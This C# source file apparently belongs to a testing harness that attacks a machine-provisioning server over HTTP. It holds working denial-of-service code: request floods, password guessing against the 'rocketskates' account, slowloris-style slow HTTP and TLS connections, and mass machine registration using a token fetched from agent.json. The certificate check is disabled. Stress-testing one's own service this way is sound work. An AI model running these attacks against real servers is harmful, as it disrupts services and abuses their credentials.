using System.Net;
using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;

namespace Anvil.Swarm.Attacks;

/// <summary>Attacks by HTTP, from all of the attacker's addresses.</summary>
internal static class HttpAttacks
{
    private const int FilePort = 8091;
    private const int ApiPort = 8092;

    /// <summary>Writes of a machine's facts after its registration.</summary>
    private const int Writes = 8;

    /// <summary>64 connections that ask for boot files that are not there, as fast as they are answered.</summary>
    public static Task MissesAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(64, async number =>
    {
        using var http = Client(target, number);
        for (var i = 0; ; i++)
        {
            using var answer = await http.GetAsync($"http://{target.Server}:{FilePort}/nothing/{number}/{i}", cancellation);
            target.Count();
        }
    }, cancellation);

    /// <summary>A hundred connections with wrong passwords.</summary>
    public static Task PasswordsAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(100, async number =>
    {
        using var http = Client(target, number);
        for (var i = 0; ; i++)
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, $"https://{target.Server}:{ApiPort}/api/v3/machines");
            request.Headers.Authorization = new AuthenticationHeaderValue("Basic",
                Convert.ToBase64String(Encoding.UTF8.GetBytes($"{(i % 2 == 0 ? "rocketskates" : $"nobody-{number}")}:wrong-{i}")));
            using var answer = await http.SendAsync(request, cancellation);
            target.Count();
            await Task.Delay(20, cancellation);
        }
    }, cancellation);

    /// <summary>
    /// Three thousand connections that send one octet in four seconds: to boot HTTP of a request's head, to the API of a TLS handshake.
    /// </summary>
    public static Task ConnectionsAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(3000, async number =>
    {
        await Task.Delay(number, cancellation);
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        socket.Bind(new IPEndPoint(target.Own(number), 0));
        await socket.ConnectAsync(target.Server, number % 2 == 0 ? FilePort : ApiPort, cancellation);
        target.Count();
        // A record of a handshake (22) of TLS 1.0, as it begins for all versions, that announces 4,096 octets.
        byte[] head = number % 2 == 0 ? [.. "GET /nothing HTTP/1.1\r\nX-Slow: "u8] : [22, 3, 1, 16, 0, 1, 0, 15, 252];
        foreach (var octet in head.Concat(Enumerable.Repeat((byte)'x', 4000)))
        {
            await socket.SendAsync(new[] { octet }, cancellation);
            await Task.Delay(TimeSpan.FromSeconds(4), cancellation);
        }
    }, cancellation);

    /// <summary>
    /// Eight strangers that register machines of 200 KiB as fast as they are answered, with the token of agent.json, and write the facts
    /// of each again and again with it, whatever they are answered.
    /// </summary>
    public static Task RegistrationsAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(8, async number =>
    {
        using var http = Client(target, number);
        for (var i = 0; ; i++)
        {
            http.DefaultRequestHeaders.Authorization = null;
            using var config = await http.GetAsync($"http://{target.Server}:{FilePort}/sledgehammer/agent.json", cancellation);
            target.Count();
            if (!config.IsSuccessStatusCode) continue;
            var node = JsonNode.Parse(await config.Content.ReadAsStringAsync(cancellation))!;
            http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", node["Token"]?.ToString());
            var body = $$$"""
                {"Name":"stranger-{{{number}}}-{{{i}}}",
                "HardwareAddrs":["06:66:00:{{{number:x2}}}:{{{i >> 8 & 255:x2}}}:{{{i & 255:x2}}}"],
                "Params":{"hardware/x":"{{{new string('x', 200 << 10)}}}"}}
                """;
            using var content = new StringContent(body, Encoding.UTF8, "application/json");
            using var made = await http.PostAsync($"https://{target.Server}:{ApiPort}/api/v3/machines", content, cancellation);
            target.Count();
            if (!made.IsSuccessStatusCode) continue;
            var uuid = JsonNode.Parse(await made.Content.ReadAsStringAsync(cancellation))!["Uuid"];
            for (var n = 0; n < Writes; n++)
            {
                var patch = $$"""[{"op":"add","path":"/Params/hardware~1x","value":"{{n}}{{new string('y', 200 << 10)}}"}]""";
                using var facts = new StringContent(patch, Encoding.UTF8, "application/json");
                using var written = await http.PatchAsync($"https://{target.Server}:{ApiPort}/api/v3/machines/{uuid}", facts,
                    cancellation);
                target.Count();
            }
        }
    }, cancellation);

    /// <summary>So many at once, each anew when it failed, until cancelled.</summary>
    private static Task ManyAsync(int count, Func<int, Task> act, CancellationToken cancellation)
        => Task.WhenAll(Enumerable.Range(0, count).Select(async number =>
        {
            while (!cancellation.IsCancellationRequested)
            {
                try
                {
                    await act(number);
                }
                catch (Exception e) when (e is HttpRequestException or SocketException or IOException
                    || (e is OperationCanceledException && !cancellation.IsCancellationRequested))
                {
                    await Task.Delay(100, cancellation);
                }
            }
        }));

    private static HttpClient Client(AttackTarget target, int number)
    {
        var handler = FromAddress.Handler(target.Own(number));
        handler.SslOptions.RemoteCertificateValidationCallback = (_, shown, _, _) => shown is not null;
        return new HttpClient(handler) { Timeout = TimeSpan.FromSeconds(60) };
    }
}
